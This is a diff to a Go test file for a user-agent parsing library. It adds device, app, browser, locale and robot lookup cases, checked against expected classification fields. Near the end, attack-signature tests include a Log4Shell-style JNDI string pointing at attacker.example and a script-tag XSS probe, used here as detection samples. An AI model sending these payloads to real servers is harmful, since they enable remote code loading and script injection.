@@ -34,6 +34,10 @@ func TestTablesWellFormed(t *testing.T) {
 			switch e.Name() {
 			case "cpu.tsv", "system_releases.tsv":
 				key = r[0] + " " + r[1]
+			case "named_robots.tsv":
+				// The rule looks keys up in lower case: two keys that
+				// differ only in case would be one.
+				key = strings.ToLower(r[0])
 			case "attack_signatures.tsv":
 				key = r[0] + " " + r[1]
 				// The loader matches fragments on the lower case user
@@ -127,6 +131,22 @@ func TestTableFactsReachTheAnalyzer(t *testing.T) {
 		{"ExampleIndexer/1.0", "DeviceClass", "Robot"},
 		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Prerender (+https://github.com/prerender/prerender)", "AgentClass", "Robot"},
 		{"Mozilla/5.0 (Linux; Android 10; CUBOT X30) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36", "DeviceClass", "Phone"},
+		// amazon_devices.tsv (a Fire tablet by its model code)
+		{"Mozilla/5.0 (Linux; Android 9; KFMAWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/100.1.1 like Chrome/100.0.4896.127 Safari/537.36", "DeviceName", "Amazon Fire HD 10 (9TH GEN-2019)"},
+		// named_apps.tsv (an app known by its package id)
+		{"com.google.android.apps.searchlite/512345 (Linux; U; Android 13; en_US; Pixel 7; Build/TQ3A.230805.001; Cronet/116.0.5845.72)", "AgentName", "Google Go"},
+		// edge_versions.tsv (a legacy Edge build)
+		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Safari/537.36 Edge/14.14291", "AgentVersion", "34.14291"},
+		// browser_tags.tsv (a browser that adds its tag to Chrome's user agent)
+		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.110 Safari/537.36 Iridium/2021.12", "AgentName", "Iridium"},
+		// cpu_words.tsv (a processor tag after the system's name)
+		{"Opera/9.80 (Linux mips; U; en) Presto/2.12.407 Version/12.50", "DeviceCpu", "Mips"},
+		// languages.tsv (a locale named in Yauaa's words)
+		{"Mozilla/5.0 (Linux; U; Android 4.4.2; fa-IR; Example-1 Build/KOT49H) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30", "AgentLanguage", "Farsi (Iran)"},
+		// apple_devices.tsv (an app naming the model identifier)
+		{"ExampleApp/3.2 (iPhone12,1; iOS 16.6; Scale/2.00)", "DeviceVersion", "iPhone 11"},
+		// named_robots.tsv (a monitor known only by its name)
+		{"StatusCake/2.0", "DeviceClass", "Robot"},
 		// attack_signatures.tsv, one fragment of each family
 		{"Mozilla/5.0 ${jndi:ldap://attacker.example/a}", "HackerAttackVector", "Code Injection"},
 		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) <script>alert(1)</script>", "HackerAttackVector", "Code Injection"},
